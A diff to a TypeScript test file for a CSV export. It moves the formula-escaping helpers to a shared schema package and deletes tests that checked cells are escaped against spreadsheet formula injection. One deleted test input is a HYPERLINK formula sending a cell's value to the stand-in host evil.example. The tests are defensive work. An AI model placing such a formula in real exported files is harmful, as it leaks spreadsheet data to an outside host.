@@ -6,12 +6,13 @@ import { pathToFileURL } from 'node:url'
 import { promisify } from 'node:util'
 import { insertManyGuides, makeTestFolder } from '@grove/db/testing'
 import type { ExportPage, PrivateGuide } from '@grove/schema'
+import { escapeFormula, unescapeFormula } from '@grove/schema'
 import { parse } from 'csv-parse/sync'
 import fc from 'fast-check'
 import { describe, expect, test } from 'vitest'
 import { describeEachSite, describeSite } from '../../../test/support/each-site.ts'
 import { addTestGuides } from '../../../test/support/site.ts'
-import { escapeFormula, parseCsv, toCsvHead, toCsvLine, unescapeFormula } from './csv.ts'
+import { parseCsv, toCsvHead, toCsvLine } from './csv.ts'
 import { exportGuides } from './export-guides.ts'
 
 type Row = Record<string, string>
@@ -234,40 +235,7 @@ describe('cells of CSV', () => {
     )
   })
 
-  test('hold no formula, wherever a spreadsheet parts them', () => {
-    fc.assert(
-      fc.property(anyText, (text) => {
-        const cell = escapeFormula(text)
-        const parts = /^-?[\d.]+$/.test(cell) ? [] : cell.split(/[;\t\r\n]/)
-        expect(parts.filter((part) => /^"*[=+\-@\uff1d]/.test(part))).toEqual([])
-        expect(unescapeFormula(cell)).toBe(text)
-      }),
-      { numRuns: 2_000 },
-    )
-  })
-
-  test.each([
-    ['x;=HYPERLINK("http://evil.example/?"&A1)', `x;'=HYPERLINK("http://evil.example/?"&A1)`],
-    ['a\n=1\r\n@b\t+c', "a\n'=1\r\n'@b\t'+c"],
-    ['a;"=1', `a;'"=1`],
-    ['\t=1', "'\t'=1"],
-    ['\uff1d1', "'\uff1d1"],
-  ])('%j leaves as %j, in quotes', (text, cell) => {
-    expect(escapeFormula(text)).toBe(cell)
-    expect(unescapeFormula(cell)).toBe(text)
-    expect(toCsvLine([text, ''])).toBe(`"${cell.replaceAll('"', '""')}",""\r\n`)
-  })
-
-  test.each(['=1+1', '+44 1', '-1-1', '@x', '\tx', '\rx', "'=1", '--'])(
-    '%j is no formula any more',
-    (text) => {
-      expect(escapeFormula(text)).toBe(`'${text}`)
-      expect(unescapeFormula(escapeFormula(text))).toBe(text)
-    },
-  )
-
-  test.each(['-1.4701', '53.38', '-12', 'plain', "it's", "'quoted'", ''])('%j stays as it is', (text) => {
-    expect(escapeFormula(text)).toBe(text)
-    expect(unescapeFormula(text)).toBe(text)
+  test('leave in quotes', () => {
+    expect(toCsvLine(['a;"=1', ''])).toBe(`"a;'""=1",""\r\n`)
   })
 })
